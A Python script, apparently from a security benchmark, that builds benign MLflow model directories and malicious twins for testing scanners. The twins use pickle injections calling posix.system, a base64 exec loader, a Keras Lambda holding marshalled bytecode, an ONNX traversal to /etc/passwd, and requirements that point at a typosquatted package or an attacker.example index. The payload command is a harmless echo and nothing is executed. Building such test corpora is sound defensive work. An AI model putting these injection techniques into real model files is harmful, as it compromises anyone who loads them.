#!/usr/bin/env python3
"""Corpus of real MLflow model directories (issue 10, item 8), benign and malicious look-alikes.

    bench/.venv-mlflow/bin/python bench/mlflow_corpus.py bench/out/mlflow-corpus [--only NAME,…]

Run with the bench venv made by bench/mlflow_corpus_env.sh (the real mlflow and the flavors'
libraries). Writes ``benign/<name>/`` (each written by MLflow's own ``save_model``), ``malicious/<name>/``
(each a copy of a benign twin with ONE change) and ``labels.json``: a list of ``{name, path, label,
kind, flavor, twin, attack}``. A flavor whose library is missing is skipped and listed in
``corpus-info.json`` with the reason.

Safety: no payload is ever executed. Payload pickles are written opcode by opcode (``payload_pickle``
/ ``inject``); notebook classes whose methods call ``os.system`` are pickled, never called; code files
are written as text, never imported. Nothing written here is loaded by this script.

``save_model`` always gets ``pip_requirements=[…]`` so that MLflow does not run its inference of the
requirements (8–22 s per model).
"""

from __future__ import annotations

import argparse
import base64
import json
import linecache
import os
import shutil
import sys
import tempfile
import traceback
import zipfile
from collections.abc import Callable
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "torch")
os.environ.setdefault("MLFLOW_DISABLE_TELEMETRY", "true")
os.environ.setdefault("DO_NOT_TRACK", "true")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")
os.environ.setdefault("HF_HUB_OFFLINE", "1")

CMD = "echo mlflow-corpus-payload > /dev/null"  # what the payloads would run, were they ever loaded

# ------------------------------------------------------------------------------------------------
# hand-built payload pickles (never loaded)


def _str_op(s: str) -> bytes:
    b = s.encode()
    return b"X" + len(b).to_bytes(4, "little") + b


def payload_call(module: str, name: str, arg: str) -> bytes:
    """Opcodes pushing ``module.name(arg)`` (GLOBAL, the argument tuple, REDUCE); no PROTO/STOP."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n" + _str_op(arg) + b"\x85R"


def payload_pickle(module: str = "posix", name: str = "system", arg: str = CMD) -> bytes:
    """A whole pickle whose loading calls ``module.name(arg)``."""
    return b"\x80\x02" + payload_call(module, name, arg) + b"."


def inject(original: bytes, module: str = "posix", name: str = "system", arg: str = CMD) -> bytes:
    """The payload call, then POP, then the original pickle: loading runs the payload and still
    returns the real model (the stealthy variant). The PROTO of the original is kept in front."""
    if original[:1] == b"\x80":
        head, body = original[:2], original[2:]
    else:
        head, body = b"", original
    return head + payload_call(module, name, arg) + b"0" + body


def rewrite_zip_member(zpath: Path, pred: Callable[[str], bool], fn: Callable[[bytes], bytes]) -> str:
    """Rewrite the first member of a zip matching ``pred`` through ``fn`` (order and names kept)."""
    tmp = zpath.with_suffix(zpath.suffix + ".tmp")
    hit = ""
    with zipfile.ZipFile(zpath) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if not hit and pred(info.filename):
                data, hit = fn(data), info.filename
            zi = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            zi.compress_type = info.compress_type
            zout.writestr(zi, data)
    os.replace(tmp, zpath)
    if not hit:
        raise RuntimeError(f"no matching member in {zpath}")
    return hit


# ------------------------------------------------------------------------------------------------
# notebook classes: defined in __main__ so that cloudpickle pickles them by value, as in a notebook

NOTEBOOK_SRC = '''
import mlflow.pyfunc

class NotebookModel(mlflow.pyfunc.PythonModel):
    """A model class typed into a notebook cell."""

    def __init__(self, scale=2.0):
        self.scale = scale

    def predict(self, context, model_input, params=None):
        return model_input * self.scale


class NotebookBackdoor(mlflow.pyfunc.PythonModel):
    """The look-alike: same shape, predict() also runs a shell command (never called here)."""

    def __init__(self, scale=2.0):
        self.scale = scale

    def predict(self, context, model_input, params=None):
        import os
        os.system("echo mlflow-corpus-payload > /dev/null")
        return model_input * self.scale


class ArtifactModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        import json
        with open(context.artifacts["table"]) as f:
            self.table = json.load(f)

    def predict(self, context, model_input, params=None):
        return model_input
'''


def _cell(src: str, name: str) -> None:
    """Run a notebook cell in ``__main__``; its source is registered in linecache as IPython does
    (TorchScript and inspect need it)."""
    main = sys.modules["__main__"]
    linecache.cache[name] = (len(src), None, src.splitlines(True), name)
    exec(compile(src, name, "exec"), main.__dict__)


def _notebook() -> dict:
    main = sys.modules["__main__"]
    if not hasattr(main, "NotebookModel"):
        _cell(NOTEBOOK_SRC, "<ipython-input-1-corpus>")
    return main.__dict__


TORCH_NET_SRC = """
import torch

class TinyNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return torch.relu(self.fc(x))
"""


def _tinynet():
    main = sys.modules["__main__"]
    if not hasattr(main, "TinyNet"):
        _cell(TORCH_NET_SRC, "<ipython-input-2-corpus>")
    return main.TinyNet


# ------------------------------------------------------------------------------------------------
# benign builders: name -> (flavor, kind, fn(path))


def _xy():
    import numpy as np

    rng = np.random.default_rng(0)
    X = rng.random((40, 4))
    y = (X[:, 0] > 0.5).astype(int)
    return X, y


def _sk_model():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    X, y = _xy()
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)


def b_sklearn(fmt: str) -> Callable[[Path], None]:
    def build(p: Path) -> None:
        import mlflow.sklearn

        mlflow.sklearn.save_model(
            _sk_model(), str(p), serialization_format=fmt, pip_requirements=["scikit-learn", "skops"]
        )

    return build


def b_pyfunc_notebook(p: Path) -> None:
    import mlflow.pyfunc

    mlflow.pyfunc.save_model(str(p), python_model=_notebook()["NotebookModel"](), pip_requirements=["mlflow"])


CODE_PATHS_MODULE = '''
import mlflow.pyfunc


class PackagedModel(mlflow.pyfunc.PythonModel):
    """A model class that lives in a module shipped with code_paths."""

    def __init__(self, scale=3.0):
        self.scale = scale

    def predict(self, context, model_input, params=None):
        return model_input * self.scale
'''


def b_pyfunc_code_paths(p: Path) -> None:
    import importlib

    import mlflow.pyfunc

    src = Path(tempfile.mkdtemp(prefix="mlc-code-")) / "corpus_pkg"
    src.mkdir()
    (src / "__init__.py").write_text("")
    (src / "packaged.py").write_text(CODE_PATHS_MODULE)
    sys.path.insert(0, str(src.parent))
    try:
        mod = importlib.import_module("corpus_pkg.packaged")  # our own benign module
        mlflow.pyfunc.save_model(
            str(p), python_model=mod.PackagedModel(), code_paths=[str(src)], pip_requirements=["mlflow"]
        )
    finally:
        sys.path.remove(str(src.parent))


MODELS_FROM_CODE = """
import mlflow
from mlflow.pyfunc import PythonModel


class Echo(PythonModel):
    def predict(self, context, model_input, params=None):
        return model_input


mlflow.models.set_model(Echo())
"""


def b_pyfunc_from_code(p: Path) -> None:
    import mlflow.pyfunc

    f = Path(tempfile.mkdtemp(prefix="mlc-mfc-")) / "model.py"
    f.write_text(MODELS_FROM_CODE)
    mlflow.pyfunc.save_model(str(p), python_model=str(f), pip_requirements=["mlflow"])


def b_pyfunc_artifacts(p: Path) -> None:
    import mlflow.pyfunc
    import numpy as np

    d = Path(tempfile.mkdtemp(prefix="mlc-art-"))
    (d / "table.json").write_text(json.dumps({"a": 1, "b": [1, 2, 3]}))
    np.save(d / "weights.npy", np.arange(12, dtype=np.float32))
    mlflow.pyfunc.save_model(
        str(p),
        python_model=_notebook()["ArtifactModel"](),
        artifacts={"table": str(d / "table.json"), "weights": str(d / "weights.npy")},
        pip_requirements=["mlflow", "numpy"],
    )


def b_xgboost(p: Path) -> None:
    import mlflow.xgboost
    import xgboost as xgb

    X, y = _xy()
    m = xgb.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y)
    mlflow.xgboost.save_model(m, str(p), pip_requirements=["xgboost"])


def b_lightgbm(p: Path) -> None:
    import lightgbm as lgb
    import mlflow.lightgbm

    X, y = _xy()
    booster = lgb.train({"objective": "binary", "verbose": -1, "num_leaves": 4}, lgb.Dataset(X, y), 3)
    mlflow.lightgbm.save_model(booster, str(p), pip_requirements=["lightgbm"])


def b_lightgbm_sklearn(p: Path) -> None:
    import lightgbm as lgb
    import mlflow.lightgbm

    X, y = _xy()
    m = lgb.LGBMClassifier(n_estimators=3, num_leaves=4, verbose=-1).fit(X, y)
    mlflow.lightgbm.save_model(m, str(p), pip_requirements=["lightgbm"])


def b_lightgbm_cloudpickle(p: Path) -> None:
    import lightgbm as lgb
    import mlflow.lightgbm

    X, y = _xy()
    m = lgb.LGBMClassifier(n_estimators=3, num_leaves=4, verbose=-1).fit(X, y)
    mlflow.lightgbm.save_model(m, str(p), serialization_format="cloudpickle", pip_requirements=["lightgbm"])


def b_catboost(p: Path) -> None:
    import catboost
    import mlflow.catboost

    X, y = _xy()
    m = catboost.CatBoostClassifier(iterations=3, depth=2, verbose=False, allow_writing_files=False).fit(X, y)
    mlflow.catboost.save_model(m, str(p), pip_requirements=["catboost"])


def b_statsmodels(p: Path) -> None:
    import mlflow.statsmodels
    import statsmodels.api as sm

    X, y = _xy()
    res = sm.OLS(y.astype(float), sm.add_constant(X)).fit()
    mlflow.statsmodels.save_model(res, str(p), pip_requirements=["statsmodels"])


def b_prophet(p: Path) -> None:
    import mlflow.prophet
    import pandas as pd
    from prophet import Prophet

    df = pd.DataFrame({"ds": pd.date_range("2024-01-01", periods=60), "y": [float(i % 7) for i in range(60)]})
    m = Prophet(daily_seasonality=False, yearly_seasonality=False).fit(df, algorithm="Newton")
    mlflow.prophet.save_model(m, str(p), pip_requirements=["prophet"])


def b_torch(fmt: str) -> Callable[[Path], None]:
    def build(p: Path) -> None:
        import mlflow.pytorch
        import torch

        net = _tinynet()()
        if fmt == "pickle":
            mlflow.pytorch.save_model(net, str(p), serialization_format="pickle", pip_requirements=["torch"])
        elif fmt == "pt2":
            import numpy as np

            mlflow.pytorch.save_model(
                net,
                str(p),
                serialization_format="pt2",
                input_example=np.zeros((1, 4), dtype=np.float32),
                pip_requirements=["torch"],
            )
        elif fmt == "torchscript":
            mlflow.pytorch.save_model(
                torch.jit.script(net), str(p), serialization_format="pickle", pip_requirements=["torch"]
            )
        else:  # state_dict: what mlflow.pytorch.log_state_dict writes
            mlflow.pytorch.save_state_dict(net.state_dict(), str(p))

    return build


def b_transformers(p: Path) -> None:
    import mlflow.transformers
    from transformers import BertConfig, BertForSequenceClassification, BertTokenizerFast

    d = Path(tempfile.mkdtemp(prefix="mlc-tok-"))
    vocab = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "hello", "world", "good", "bad"]
    (d / "vocab.txt").write_text("\n".join(vocab) + "\n")
    tok = BertTokenizerFast(vocab_file=str(d / "vocab.txt"))
    cfg = BertConfig(
        vocab_size=len(vocab),
        hidden_size=8,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=16,
        max_position_embeddings=32,
        num_labels=2,
    )
    model = BertForSequenceClassification(cfg)
    mlflow.transformers.save_model(
        {"model": model, "tokenizer": tok},
        str(p),
        task="text-classification",
        pip_requirements=["transformers", "torch"],
    )


def b_keras(p: Path) -> None:
    import keras
    import mlflow.keras

    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)]
    )
    mlflow.keras.save_model(model, str(p), pip_requirements=["keras", "torch"])


def b_onnx(p: Path) -> None:
    import mlflow.onnx
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "tiny",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])],
        [w],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.checker.check_model(model)
    mlflow.onnx.save_model(model, str(p), pip_requirements=["onnx", "onnxruntime"])


BENIGN: dict[str, tuple[str, str, Callable[[Path], None]]] = {
    "sklearn_skops": ("sklearn", "skops", b_sklearn("skops")),
    "sklearn_cloudpickle": ("sklearn", "cloudpickle", b_sklearn("cloudpickle")),
    "sklearn_pickle": ("sklearn", "pickle", b_sklearn("pickle")),
    "pyfunc_notebook": ("python_function", "notebook class (cloudpickle by value)", b_pyfunc_notebook),
    "pyfunc_code_paths": ("python_function", "class in code_paths module", b_pyfunc_code_paths),
    "pyfunc_from_code": ("python_function", "models from code", b_pyfunc_from_code),
    "pyfunc_artifacts": ("python_function", "artifacts (json, npy)", b_pyfunc_artifacts),
    "xgboost": ("xgboost", "xgboost ubj", b_xgboost),
    "lightgbm": ("lightgbm", "lightgbm booster text", b_lightgbm),
    "lightgbm_sklearn": ("lightgbm", "LGBMClassifier skops (the default)", b_lightgbm_sklearn),
    "lightgbm_sklearn_cloudpickle": ("lightgbm", "LGBMClassifier cloudpickle", b_lightgbm_cloudpickle),
    "catboost": ("catboost", "catboost cbm", b_catboost),
    "statsmodels": ("statsmodels", "results pickle", b_statsmodels),
    "prophet": ("prophet", "prophet json", b_prophet),
    "pytorch_pickle": ("pytorch", "full pickle (cloudpickle)", b_torch("pickle")),
    "pytorch_pt2": ("pytorch", "pt2 (torch.export)", b_torch("pt2")),
    "pytorch_torchscript": ("pytorch", "TorchScript", b_torch("torchscript")),
    "pytorch_state_dict": ("pytorch", "state_dict", b_torch("state_dict")),
    "transformers": ("transformers", "tiny BERT from a config", b_transformers),
    "keras": ("keras", "keras 3 (.keras, torch backend)", b_keras),
    "onnx": ("onnx", "onnx graph", b_onnx),
}


# ------------------------------------------------------------------------------------------------
# malicious look-alikes: (name, twin, attack, fn(copy_dir))


def _mlmodel(d: Path) -> Path:
    return d / "MLmodel"


def _first(d: Path, *patterns: str) -> Path:
    for pat in patterns:
        hits = sorted(x for x in d.rglob(pat) if x.is_file())
        if hits:
            return hits[0]
    raise FileNotFoundError(f"{patterns} under {d}")


def m_replace_pickle(*patterns: str) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        _first(d, *patterns).write_bytes(payload_pickle())

    return mut


def m_inject_pickle(*patterns: str) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        f = _first(d, *patterns)
        f.write_bytes(inject(f.read_bytes()))

    return mut


def m_inject_zip(pattern: str, member_pred: Callable[[str], bool]) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        rewrite_zip_member(_first(d, pattern), member_pred, inject)

    return mut


def m_loader_module(mod: str) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        import yaml

        mp = _mlmodel(d)
        doc = yaml.safe_load(mp.read_text())
        doc["flavors"]["python_function"]["loader_module"] = mod
        mp.write_text(yaml.safe_dump(doc, sort_keys=False))

    return mut


def m_model_py(d: Path) -> None:
    f = _first(d, "model.py")
    f.write_text('import os\nos.system("' + CMD + '")\n' + f.read_text())


def m_code_module(kind: str) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        f = _first(d / "code", "packaged.py")
        if kind == "system":
            line = 'import os\nos.system("' + CMD + '")\n'
        else:
            enc = base64.b64encode(f"import os; os.system({CMD!r})".encode()).decode()
            line = f'import base64\nexec(base64.b64decode("{enc}"))\n'
        f.write_text(line + f.read_text())

    return mut


def m_skops_trusted(d: Path) -> None:
    import yaml

    mp = _mlmodel(d)
    doc = yaml.safe_load(mp.read_text())
    flav = next(f for f in doc["flavors"].values() if "skops_trusted_types" in f)
    flav["skops_trusted_types"] = [*(flav.get("skops_trusted_types") or []), "posix.system"]
    mp.write_text(yaml.safe_dump(doc, sort_keys=False))


def m_skops_schema(d: Path) -> None:
    """A skops node that loads posix.system and calls it (listed as trusted in MLmodel as well)."""
    f = _first(d, "*.skops")

    def edit(data: bytes) -> bytes:
        schema = json.loads(data)
        schema["content"]["content"]["corpus_hook"] = {
            "__class__": "system",
            "__module__": "posix",
            "__loader__": "ObjectNode",
            "content": {
                "cmd": {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": json.dumps(CMD),
                    "is_json": True,
                }
            },
        }
        return json.dumps(schema).encode()

    rewrite_zip_member(f, lambda n: n == "schema.json", edit)
    m_skops_trusted(d)


def m_auto_map(d: Path) -> None:
    cfg = _first(d, "config.json")
    doc = json.loads(cfg.read_text())
    doc["auto_map"] = {"AutoModelForSequenceClassification": "modeling_corpus.CorpusBert"}
    cfg.write_text(json.dumps(doc, indent=2))
    (cfg.parent / "modeling_corpus.py").write_text(
        "import os\n"
        f"os.system({CMD!r})\n"
        "from transformers import BertForSequenceClassification as CorpusBert  # noqa\n"
    )


def m_requirement(extra: str, replace: str | None = None) -> Callable[[Path], None]:
    def mut(d: Path) -> None:
        r = d / "requirements.txt"
        lines = r.read_text().splitlines()
        if replace:
            lines = [extra if ln.split("==")[0].strip() == replace else ln for ln in lines]
        else:
            lines.insert(0, extra)
        r.write_text("\n".join(lines) + "\n")

    return mut


def m_conda_index(d: Path) -> None:
    import yaml

    c = d / "conda.yaml"
    doc = yaml.safe_load(c.read_text())
    for dep in doc["dependencies"]:
        if isinstance(dep, dict) and "pip" in dep:
            dep["pip"].insert(0, "--index-url https://pypi.attacker.example/simple")
    c.write_text(yaml.safe_dump(doc, sort_keys=False))


def m_notebook_backdoor(d: Path) -> None:
    import cloudpickle

    f = _first(d, "python_model.pkl")
    f.write_bytes(cloudpickle.dumps(_notebook()["NotebookBackdoor"]()))  # pickled, never called


def m_torchscript_code(d: Path) -> None:
    """A TorchScript archive whose code/ adds a call to a custom op library and a dangerous builtin.

    The scripted code is text in the archive; TorchScript compiles it at load."""

    def edit(data: bytes) -> bytes:
        text = data.decode()
        return (
            text + "\n" + "def _corpus_hook(x):\n"
            f"    torch.ops.load_library({'/tmp/libevil.so'!r})\n"
            "    return x\n"
        ).encode()

    rewrite_zip_member(
        _first(d, "model.pth", "*.pt", "*.pth"), lambda n: n.endswith(".py") and "/code/" in n, edit
    )


def m_keras_lambda(d: Path) -> None:
    """A Lambda layer whose function is marshalled bytecode calling os.system (compiled, never run)."""
    import marshal

    src = f"def f(x):\n    import os\n    os.system({CMD!r})\n    return x\n"
    code = next(c for c in compile(src, "<lambda>", "exec").co_consts if hasattr(c, "co_code"))
    b64 = base64.b64encode(marshal.dumps(code)).decode()
    f = _first(d, "*.keras")

    def edit(data: bytes) -> bytes:
        cfg = json.loads(data)
        layers = cfg["config"]["layers"]
        layers.append(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {
                    "name": "lambda_corpus",
                    "trainable": True,
                    "dtype": "float32",
                    "function": {
                        "class_name": "__lambda__",
                        "config": {"code": b64, "defaults": None, "closure": None},
                    },
                    "arguments": {},
                },
                "registered_name": None,
            }
        )
        return json.dumps(cfg).encode()

    rewrite_zip_member(f, lambda n: n == "config.json", edit)


def m_onnx_custom_op(d: Path) -> None:
    import onnx
    from onnx import helper

    f = _first(d, "*.onnx")
    model = onnx.load(str(f))
    node = helper.make_node("RunShell", ["y"], ["y2"], domain="com.attacker.customop", cmd=CMD)
    model.graph.node.append(node)
    model.graph.output[0].name = "y2"
    model.opset_import.append(helper.make_opsetid("com.attacker.customop", 1))
    onnx.save(model, str(f))


def m_onnx_external(d: Path) -> None:
    import onnx

    f = _first(d, "*.onnx")
    model = onnx.load(str(f))
    t = model.graph.initializer[0]
    t.ClearField("raw_data")
    t.data_location = onnx.TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", "../../../../../etc/passwd"
    onnx.save(model, str(f))


def m_pt2_sample_inputs(d: Path) -> None:
    """os.system injected into data.pkl of the torch.save archive nested in the .pt2 (sample inputs)."""

    def nested(data: bytes) -> bytes:
        with tempfile.TemporaryDirectory() as t:
            z = Path(t) / "inner.pt"
            z.write_bytes(data)
            rewrite_zip_member(z, _is_data_pkl, inject)
            return z.read_bytes()

    rewrite_zip_member(_first(d, "*.pt2"), lambda n: n.endswith("sample_inputs/model.pt"), nested)


def _is_data_pkl(n: str) -> bool:
    return n.endswith("/data.pkl") or n == "data.pkl"


MALICIOUS: list[tuple[str, str, str, Callable[[Path], None]]] = [
    # pickle payloads in the model file
    (
        "sklearn_pickle_payload",
        "sklearn_pickle",
        "model.pkl replaced by os.system pickle",
        m_replace_pickle("model.pkl"),
    ),
    (
        "sklearn_pickle_injected",
        "sklearn_pickle",
        "os.system call injected before the real model (still loads)",
        m_inject_pickle("model.pkl"),
    ),
    (
        "sklearn_cloudpickle_injected",
        "sklearn_cloudpickle",
        "os.system injected into model.pkl",
        m_inject_pickle("model.pkl"),
    ),
    (
        "lightgbm_sklearn_skops_system",
        "lightgbm_sklearn",
        "skops node posix.system (+ trusted in MLmodel)",
        m_skops_schema,
    ),
    (
        "statsmodels_injected",
        "statsmodels",
        "os.system injected into model.statsmodels",
        m_inject_pickle("model.statsmodels"),
    ),
    (
        "pyfunc_notebook_injected",
        "pyfunc_notebook",
        "os.system injected into python_model.pkl",
        m_inject_pickle("python_model.pkl"),
    ),
    (
        "pyfunc_artifacts_injected",
        "pyfunc_artifacts",
        "subprocess.getoutput injected into python_model.pkl",
        lambda d: (lambda f: f.write_bytes(inject(f.read_bytes(), "subprocess", "getoutput")))(
            _first(d, "python_model.pkl")
        ),
    ),
    (
        "pyfunc_notebook_backdoor",
        "pyfunc_notebook",
        "cloudpickled notebook class whose predict calls os.system",
        m_notebook_backdoor,
    ),
    # MLmodel
    (
        "sklearn_loader_os",
        "sklearn_skops",
        "MLmodel python_function.loader_module: os",
        m_loader_module("os"),
    ),
    (
        "xgboost_loader_subprocess",
        "xgboost",
        "MLmodel python_function.loader_module: subprocess",
        m_loader_module("subprocess"),
    ),
    (
        "sklearn_skops_trusted_system",
        "sklearn_skops",
        "MLmodel skops_trusted_types lists posix.system",
        m_skops_trusted,
    ),
    (
        "sklearn_skops_schema_system",
        "sklearn_skops",
        "skops schema node posix.system (+ trusted in MLmodel)",
        m_skops_schema,
    ),
    # code
    ("pyfunc_from_code_system", "pyfunc_from_code", "model.py runs os.system at import", m_model_py),
    (
        "pyfunc_code_paths_system",
        "pyfunc_code_paths",
        "code/ module runs os.system at import (pickle identical)",
        m_code_module("system"),
    ),
    (
        "pyfunc_code_paths_b64exec",
        "pyfunc_code_paths",
        "code/ module runs exec(base64.b64decode(...)) at import (pickle identical)",
        m_code_module("b64"),
    ),
    (
        "transformers_auto_map",
        "transformers",
        "config.json auto_map -> modeling_corpus.py (os.system)",
        m_auto_map,
    ),
    # environment
    (
        "sklearn_req_typosquat",
        "sklearn_cloudpickle",
        "requirements.txt: scikit-lern (typosquat)",
        m_requirement("scikit-lern", replace="scikit-learn"),
    ),
    (
        "lightgbm_req_git_url",
        "lightgbm",
        "requirements.txt: git+https URL",
        m_requirement("lightgbm @ git+https://github.com/attacker/LightGBM.git", replace="lightgbm"),
    ),
    (
        "catboost_req_extra_index",
        "catboost",
        "requirements.txt: --extra-index-url",
        m_requirement("--extra-index-url https://pypi.attacker.example/simple"),
    ),
    ("prophet_conda_index_url", "prophet", "conda.yaml pip: --index-url", m_conda_index),
    # torch
    (
        "pytorch_pickle_injected",
        "pytorch_pickle",
        "os.system injected into data.pkl of model.pth",
        m_inject_zip("model.pth", _is_data_pkl),
    ),
    (
        "pytorch_state_dict_injected",
        "pytorch_state_dict",
        "os.system injected into state_dict.pth data.pkl",
        m_inject_zip("state_dict.pth", _is_data_pkl),
    ),
    (
        "pytorch_torchscript_injected",
        "pytorch_torchscript",
        "os.system injected into TorchScript data.pkl",
        m_inject_zip("model.pth", _is_data_pkl),
    ),
    (
        "pytorch_torchscript_code",
        "pytorch_torchscript",
        "TorchScript code/ calls torch.ops.load_library",
        m_torchscript_code,
    ),
    (
        "pytorch_pt2_injected",
        "pytorch_pt2",
        "os.system pickle injected into a pickled member of the .pt2",
        m_pt2_sample_inputs,
    ),
    # keras, onnx
    ("keras_lambda", "keras", "Lambda layer with marshalled bytecode calling os.system", m_keras_lambda),
    ("onnx_custom_op", "onnx", "custom-op domain node (needs a custom op library)", m_onnx_custom_op),
    ("onnx_external_traversal", "onnx", "external_data location ../../../../../etc/passwd", m_onnx_external),
]


# ------------------------------------------------------------------------------------------------


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--only", default="", help="comma list of benign or malicious names")
    args = ap.parse_args()
    only = {x for x in args.only.split(",") if x}
    out: Path = args.out.resolve()
    (out / "benign").mkdir(parents=True, exist_ok=True)
    (out / "malicious").mkdir(parents=True, exist_ok=True)
    labels: list[dict[str, str]] = []
    skipped: dict[str, str] = {}
    import importlib.metadata as md

    versions = {}
    for n in (
        "mlflow",
        "scikit-learn",
        "skops",
        "xgboost",
        "lightgbm",
        "catboost",
        "statsmodels",
        "prophet",
        "torch",
        "transformers",
        "keras",
        "onnx",
    ):
        try:
            versions[n] = md.version(n)
        except md.PackageNotFoundError:
            versions[n] = None
    cwd = os.getcwd()
    work = tempfile.mkdtemp(prefix="mlflow-corpus-")
    os.chdir(work)  # stray files (mlruns, catboost_info) land here
    for name, (flavor, kind, fn) in BENIGN.items():
        need = only and name not in only and not any(t == name for _, t, _, _ in MALICIOUS if _ in only)
        dest = out / "benign" / name
        if need:
            if dest.exists():
                labels.append(
                    {
                        "name": name,
                        "path": f"benign/{name}",
                        "label": "benign",
                        "kind": kind,
                        "flavor": flavor,
                        "twin": "",
                        "attack": "",
                    }
                )
            continue
        shutil.rmtree(dest, ignore_errors=True)
        try:
            fn(dest)
        except Exception as e:
            shutil.rmtree(dest, ignore_errors=True)
            skipped[name] = f"{type(e).__name__}: {str(e).splitlines()[0][:200] if str(e) else ''}"
            print(f"benign {name}: NOT BUILT ({skipped[name]})", file=sys.stderr)
            if os.environ.get("CORPUS_DEBUG"):
                traceback.print_exc()
            continue
        labels.append(
            {
                "name": name,
                "path": f"benign/{name}",
                "label": "benign",
                "kind": kind,
                "flavor": flavor,
                "twin": "",
                "attack": "",
            }
        )
        print(f"benign {name}: ok", file=sys.stderr)
    for name, twin, attack, fn in MALICIOUS:
        if only and name not in only and twin not in only:
            continue
        src = out / "benign" / twin
        dest = out / "malicious" / name
        shutil.rmtree(dest, ignore_errors=True)
        if not src.is_dir():
            skipped[name] = f"twin {twin} not built"
            continue
        shutil.copytree(src, dest)
        try:
            fn(dest)
        except Exception as e:
            shutil.rmtree(dest, ignore_errors=True)
            skipped[name] = f"{type(e).__name__}: {str(e)[:200]}"
            print(f"malicious {name}: NOT BUILT ({skipped[name]})", file=sys.stderr)
            if os.environ.get("CORPUS_DEBUG"):
                traceback.print_exc()
            continue
        labels.append(
            {
                "name": name,
                "path": f"malicious/{name}",
                "label": "malicious",
                "kind": BENIGN[twin][1],
                "flavor": BENIGN[twin][0],
                "twin": twin,
                "attack": attack,
            }
        )
        print(f"malicious {name}: ok", file=sys.stderr)
    os.chdir(cwd)
    shutil.rmtree(work, ignore_errors=True)
    if only and (out / "labels.json").exists():  # merge into the previous labels
        old = [
            x
            for x in json.loads((out / "labels.json").read_text())
            if x["name"] not in {y["name"] for y in labels}
        ]
        labels = old + labels
    labels.sort(key=lambda x: (x["label"], x["name"]))
    (out / "labels.json").write_text(json.dumps(labels, indent=1) + "\n")
    info = {"versions": versions, "not_built": skipped, "python": sys.version.split()[0]}
    (out / "corpus-info.json").write_text(json.dumps(info, indent=1) + "\n")
    print(
        f"{sum(x['label'] == 'benign' for x in labels)} benign, "
        f"{sum(x['label'] == 'malicious' for x in labels)} malicious into {out}; "
        f"not built: {skipped or 'none'}",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
